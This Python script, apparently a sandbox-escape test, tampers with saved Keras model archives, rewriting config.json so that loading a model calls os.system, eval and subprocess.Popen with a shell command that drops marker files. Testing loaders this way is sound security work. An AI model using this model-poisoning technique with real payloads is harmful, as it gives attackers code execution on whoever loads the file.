# A saved model whose parts are named after what should never be called: os.system, eval, subprocess.Popen.
import json
import zipfile

from hostile import OUT, target, train, tried

train()
tried()
for path in (OUT / "models").glob("*.keras"):
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(parts["config.json"])
    layers = config["config"]["layers"]
    command = f"touch {target.open_folder}/command; touch /box/out/ESCAPED"
    layers[-1] = {"module": "os", "class_name": "system", "config": {"command": command}, "registered_name": "system"}
    layers[-2]["config"]["activation"] = {
        "module": "builtins",
        "class_name": "function",
        "config": "eval",
        "registered_name": "eval",
    }
    config["compile_config"] = {
        "loss": {"module": "subprocess", "class_name": "Popen", "config": {"args": command, "shell": True}}
    }
    parts["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
